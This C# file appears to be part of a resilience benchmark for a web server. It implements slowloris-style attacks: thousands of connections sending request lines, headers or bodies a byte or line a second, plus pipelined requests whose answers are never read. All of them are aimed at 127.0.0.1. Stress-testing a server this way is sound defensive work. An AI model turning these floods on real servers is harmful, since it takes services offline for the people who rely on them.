using System.Diagnostics;

namespace Temper.Bench.Attack;

/// <summary>Many connections that send or read almost nothing.</summary>
internal static class SlowFloods
{
    private const int Many = 2000,
        Pipelined = 40;

    private static readonly TimeSpan Pause = TimeSpan.FromSeconds(1);

    public static IEnumerable<Attack> All =>
        [
            new("slow", "connections that send nothing", Many, (victim, end) => TrickleAsync(victim, "", "", end)),
            new("slow", "request lines of a byte a second", Many, (victim, end) => TrickleAsync(victim, "GET /", "a", end)),
            new(
                "slow",
                "headers of a line a second",
                Many,
                (victim, end) => TrickleAsync(victim, "GET /jobs HTTP/1.1\r\nHost: 127.0.0.1\r\n", "a: b\r\n", end)
            ),
            new(
                "slow",
                "bodies of a byte a second",
                Many,
                (victim, end) =>
                    TrickleAsync(
                        victim,
                        "POST /jobs HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n",
                        " ",
                        end
                    )
            ),
            new("slow", "answers that nobody reads", 500, UnreadAsync),
        ];

    private static async Task<string> TrickleAsync(Victim victim, string start, string piece, CancellationToken end)
    {
        await using var wire = await Wire.OpenAsync(victim, end);
        await wire.SendAsync(start, end);
        var clock = Stopwatch.StartNew();
        var answer = wire.StatusAsync(end);
        while (await Task.WhenAny(answer, Task.Delay(Pause, end)) != answer)
        {
            end.ThrowIfCancellationRequested();
            try
            {
                await wire.SendAsync(piece, end);
            }
            catch (IOException)
            {
                break;
            }
        }
        return $"{await answer} after {5 * Math.Round(clock.Elapsed.TotalSeconds / 5)} s";
    }

    private static async Task<string> UnreadAsync(Victim victim, CancellationToken end)
    {
        await using var wire = await Wire.OpenAsync(victim, end, smallBuffer: true);
        var clock = Stopwatch.StartNew();
        await wire.SendAsync(
            string.Concat(Enumerable.Repeat("GET /swagger/swagger-ui-bundle.js HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", Pipelined)),
            end
        );
        while (true)
        {
            await Task.Delay(Pause, end);
            try
            {
                await wire.SendAsync("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", end);
            }
            catch (IOException)
            {
                return $"closed after {5 * Math.Round(clock.Elapsed.TotalSeconds / 5)} s";
            }
        }
    }
}
